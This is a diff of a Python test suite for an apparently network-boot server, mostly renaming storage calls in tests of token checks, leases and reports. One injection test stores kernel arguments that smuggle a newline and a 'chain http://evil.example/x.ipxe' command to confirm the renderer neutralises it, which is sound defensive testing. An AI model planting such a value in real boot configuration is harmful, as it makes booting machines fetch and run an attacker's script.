@@ -107,8 +107,8 @@ def test_patch_is_a_json_merge_patch_and_nodes_say_what_they_boot(srv):
 def test_api_times_are_iso_8601_with_a_timezone(srv):
     srv.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, TOKEN)
     now = time.time()
-    srv.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=now + 60)])
-    srv.store.add_events([EventRecord(MAC, "dhcp-ack", now, detail={"ip": "172.22.33.150"})])
+    srv.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=now + 60)])
+    srv.store.events.add([EventRecord(MAC, "dhcp-ack", now, detail={"ip": "172.22.33.150"})])
     st, node = srv.request("GET", f"/api/v1/nodes/{MAC}", token=TOKEN)
     _, events = srv.request("GET", f"/api/v1/nodes/{MAC}/events", token=TOKEN)
     _, leases = srv.request("GET", "/api/v1/leases", token=TOKEN)
@@ -155,7 +155,7 @@ def test_write_without_token_refused(srv):
     assert st == 401 and body["error"] == "wrong bearer token"  # RFC 6750 §3.1: invalid_token is 401
     st, body = srv.request("DELETE", f"/api/v1/nodes/{MAC}", token=None)
     assert st == 401
-    assert srv.store.get_node(MAC) is None
+    assert srv.store.nodes.get(MAC) is None
     assert srv.request("GET", "/api/v1/nodes", token=None)[0] == 401  # reads need a token by default
 
 
@@ -186,7 +186,7 @@ def test_read_requires_token_false_opens_reads_not_writes(data_dir):
         with urllib.request.urlopen(f"{s.base}/metrics", timeout=5) as r:
             assert r.status == 200 and b"ramboot_" in r.read()
         assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=None)[0] == 401
-        assert s.store.get_node(MAC) is None
+        assert s.store.nodes.get(MAC) is None
     finally:
         s.close()
 
@@ -211,7 +211,7 @@ def test_the_read_token_reads_and_cannot_write(data_dir):
                                    ("DELETE", f"/api/v1/nodes/{MAC}", None)]:
             st, got = s.request(method, path, body, token=READ_TOKEN)
             assert st == 403 and "read token cannot write" in got["error"], (method, path, got)
-        assert s.store.get_node(MAC) is None and s.store.get_profile("p1") is None
+        assert s.store.nodes.get(MAC) is None and s.store.profiles.get("p1") is None
         assert s.request("PUT", f"/api/v1/nodes/{MAC}", {"image": "demo"}, token=TOKEN)[0] == 201
     finally:
         s.close()
@@ -263,14 +263,14 @@ def test_node_reports_checked_against_lease(data_dir):
     write_fake_image(data_dir, "demo")
     s = LiveServer(data_dir, '[dhcp]\nmode = "full"\nrange = "172.22.33.100-172.22.33.200"\n')
     try:
-        s.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.101", mac=MAC, expires=time.time() + 600)])
+        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.101", mac=MAC, expires=time.time() + 600)])
         st, body = s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)
         assert st == 403 and "does not hold" in body["error"]
         assert s.request("POST", f"/api/v1/nodes/{MAC}/inventory", INVENTORY, token=None)[0] == 403
-        s.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 600)])
+        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 600)])
         assert s.request("POST", f"/api/v1/nodes/{MAC}/events", {"stage": "initramfs"}, token=None)[0] == 202
         other = "52:54:00:aa:bb:09"  # a lease another client id took for this chaddr is not the machine's
-        s.store.save_leases([LeaseRecord(key=lease_key("ff01", other), ip="127.0.0.1", mac=other, client_id="ff01",
+        s.store.leases.save([LeaseRecord(key=lease_key("ff01", other), ip="127.0.0.1", mac=other, client_id="ff01",
                                          expires=time.time() + 600)])
         assert s.request("POST", f"/api/v1/nodes/{other}/events", {"stage": "initramfs"}, token=None)[0] == 403
     finally:
@@ -354,7 +354,7 @@ def test_images_and_leases(srv):
     assert {f["name"] for f in imgs[0]["files"]} == {"vmlinuz", "initrd.img", "rootfs.squashfs"}
     st, img = srv.request("GET", "/api/v1/images/demo")
     assert st == 200 and img == imgs[0]
-    srv.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=time.time() + 60)])
+    srv.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="172.22.33.150", mac=MAC, expires=time.time() + 60)])
     st, leases = srv.request("GET", "/api/v1/leases")
     assert leases == [{"ip": "172.22.33.150", "mac": MAC, "expires": pytest.approx(leases[0]["expires"]), "active": True, "client_id": None, "hostname": None}]
 
@@ -511,7 +511,7 @@ def test_every_write_needs_the_token_and_a_refusal_says_how(srv, method, path, b
     assert st == 400 and "error=\"invalid_request\"" in h["www-authenticate"], text
     st, h, text = curl_i(srv, method, f"{path}?access_token={TOKEN}", "-H", f"Authorization: Bearer {TOKEN}", *data)
     assert st == 400, text
-    assert srv.store.get_node("52:54:00:aa:bb:03") is None
+    assert srv.store.nodes.get("52:54:00:aa:bb:03") is None
     st, _, text = curl_i(srv, method, path, "-H", f"Authorization: Bearer {TOKEN}", *data)
     assert st in (200, 201, 204, 404), text
 
@@ -579,7 +579,7 @@ def test_full_mode_report_for_a_mac_without_lease_is_refused(data_dir):
     try:
         st, body = s.report(MAC, "events", {"stage": "initramfs"})
         assert st == 403 and "holds no lease of its own" in body["error"]
-        s.store.save_leases([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 60)])
+        s.store.leases.save([LeaseRecord(key=lease_key(None, MAC), ip="127.0.0.1", mac=MAC, expires=time.time() + 60)])
         assert s.report(MAC, "events", {"stage": "initramfs"})[0] == 202
     finally:
         s.close()
@@ -600,7 +600,7 @@ def test_a_stored_newline_never_breaks_out_of_the_script_line(srv):
     renders on the kernel's line: the renderers turn control characters into spaces."""
     from ramboot.inventory.store import NodeSpec
 
-    srv.store.put_node(NodeSpec(mac=MAC, image="demo", kernel_args="quiet\nchain http://evil.example/x.ipxe\r"))
+    srv.store.nodes.put(NodeSpec(mac=MAC, image="demo", kernel_args="quiet\nchain http://evil.example/x.ipxe\r"))
     for path in (f"/boot/{MAC.replace(':', '-')}.ipxe", f"/pxelinux.cfg/01-{MAC.replace(':', '-')}"):
         with urllib.request.urlopen(srv.base + path, timeout=5) as r:
             text = r.read().decode()
